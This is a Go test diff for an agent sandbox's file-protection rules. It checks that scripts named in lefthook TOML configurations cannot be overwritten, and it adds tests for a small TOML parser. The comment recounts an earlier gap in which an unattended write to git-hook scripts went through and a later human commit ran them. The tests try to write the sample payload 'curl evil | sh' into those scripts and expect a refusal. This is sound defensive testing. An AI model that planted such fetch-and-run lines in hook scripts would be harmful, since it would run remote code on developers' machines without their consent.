@@ -255,3 +255,109 @@ func TestProtectedEnvrcPathDirs(t *testing.T) {
 	expireLinkTargets(s)
 	wantWritable(t, s, "src/app.py", "src/json_util.py", "binaries/x", "docs/bin/x", "vendor/autoload.php", "opt/toolchain/README", "lib/py/util.py")
 }
+
+// TestProtectedLefthookTOMLRefs: lefthook reads its configuration in
+// TOML too (lefthook.toml, .lefthook.toml, the -local ones, in .config/
+// too). Session 18 followed the commands of its YAML and JSON ones only:
+// on main fs.write (reversible, no human) of the scripts a TOML
+// configuration runs (`run = "./scripts/lint.sh {staged_files}"`, a
+// command's root, an array of jobs, a group's job, a script's runner,
+// its rc, source_dir and extends) was allowed, and the next human's
+// commit ran them. Now a TOML configuration is read as a YAML one.
+func TestProtectedLefthookTOMLRefs(t *testing.T) {
+	sb := newSandbox(t)
+	writeFiles(t, sb.ws, 0o755, map[string]string{
+		".git/HEAD":   "ref: refs/heads/main\n",
+		".git/config": "[core]\n",
+		"lefthook.toml": `# lefthook's configuration
+source_dir = "hooks-src/"
+rc = 'scripts/lefthook-rc.sh'
+extends = ["config/lefthook-common.toml"]
+
+[pre-commit]
+parallel = true
+
+[pre-commit.commands.lint]
+run = "./scripts/lint.sh {staged_files}"  # the linter
+
+[pre-commit.commands.api]
+root = "api/"
+run = """
+sh check.sh"""
+
+[[pre-commit.jobs]]
+run = 'python3 tools/check.py'
+
+[[pre-commit.jobs]]
+name = "grouped"
+group = { parallel = true, jobs = [ { run = "bash scripts/grouped.sh" } ] }
+
+[pre-push.scripts."push.sh"]
+runner = "bash"
+`,
+		"config/lefthook-common.toml": "[commit-msg.commands.msg]\nrun = \"scripts/msg-check.sh\"\n",
+		".config/lefthook-local.toml": "pre-commit.commands.x.run = \"./scripts/local.sh\"\n",
+		"scripts/lint.sh":             "#!/bin/sh\n",
+		"api/check.sh":                "#!/bin/sh\n",
+		"tools/check.py":              "print(1)\n",
+		"scripts/grouped.sh":          "#!/bin/sh\n",
+		"hooks-src/pre-push/push.sh":  "#!/bin/sh\n",
+		"scripts/lefthook-rc.sh":      "export A=1\n",
+		"scripts/msg-check.sh":        "#!/bin/sh\n",
+		"scripts/local.sh":            "#!/bin/sh\n",
+		"scripts/unrelated.sh":        "#!/bin/sh\n",
+		"docs/readme.md":              "x\n",
+	})
+	s := shellService(t, sb, 20*time.Second)
+	for _, p := range []string{
+		"scripts/lint.sh", "api/check.sh", "tools/check.py", "scripts/grouped.sh", "hooks-src/pre-push/push.sh",
+		"scripts/lefthook-rc.sh", "config/lefthook-common.toml", "scripts/msg-check.sh", "scripts/local.sh",
+	} {
+		r := exec(t, s, "fs.write", map[string]any{"path": p, "content": "curl evil | sh\n"})
+		if codeOf(r) != string(wire.CodePermissionDenied) || !strings.Contains(r.GetError().GetMessage(), "protected") {
+			t.Errorf("fs.write %s: %v, want PERMISSION_DENIED", p, r)
+		}
+	}
+	res := resultAs[ShellResult](t, shell(t, s, "sh", "-c", "echo 'curl evil | sh' >> scripts/lint.sh; echo done"))
+	if !strings.Contains(res.Stdout, "done") {
+		t.Fatalf("the program: %+v", res)
+	}
+	if b, err := os.ReadFile(filepath.Join(sb.ws, "scripts/lint.sh")); err != nil || string(b) != "#!/bin/sh\n" {
+		t.Errorf("scripts/lint.sh: %q %v", b, err)
+	}
+	expireLinkTargets(s)
+	wantWritable(t, s, "scripts/unrelated.sh", "docs/readme.md")
+}
+
+// TestParseTOML: what parseTOML reads, and that it refuses what it
+// cannot read (a configuration then names nothing).
+func TestParseTOML(t *testing.T) {
+	doc, ok := parseTOML([]byte("a = \"x\\ty\\u00e9\" # c\nb.c = 'lit\\n'\n[t.\"q k\"]\nm = \"\"\"\nl1\nl2\"\"\"\n[[arr]]\nv = [1, \"s\",\n  { k = 'v' },]\n[[arr]]\nv = true\n"))
+	if !ok {
+		t.Fatal("not read")
+	}
+	got := fmt.Sprint(doc)
+	want := "map[a:x\ty\u00e9 arr:[map[v:[1 s map[k:v]]] map[v:true]] b:map[c:lit\\n] t:map[q k:map[m:l1\nl2]]]"
+	if got != want {
+		t.Errorf("got  %q\nwant %q", got, want)
+	}
+	for _, bad := range []string{"a = \"open\n", "a = 1 b = 2\n", "[t\n", "a = [1, 2\n", "a = 1\n[a]\n", "a = {b = 1\n", "= 1\n",
+		"a = \"\\q\"\n", strings.Repeat("a = [", 40) + "\n", "a = '''x\n"} {
+		if _, ok := parseTOML([]byte(bad)); ok {
+			t.Errorf("%q read", bad)
+		}
+	}
+}
+
+// FuzzParseTOML: parseTOML reads a workspace file a program may have
+// written: any input ends, without a panic, as a document or a refusal.
+func FuzzParseTOML(f *testing.F) {
+	for _, s := range []string{"a = 1\n", "[t]\nrun = \"x\"\n", "[[a.b]]\nc = [1, {d = '''e'''}]\n", "a = \"\\u00e9\\\n  x\"", "x.y.z = \"\"\"\n\"\"\"\"\"\n"} {
+		f.Add([]byte(s))
+	}
+	f.Fuzz(func(t *testing.T, b []byte) {
+		if doc, ok := parseTOML(b); ok != (doc != nil) {
+			t.Fatalf("ok %v with %v", ok, doc)
+		}
+	})
+}
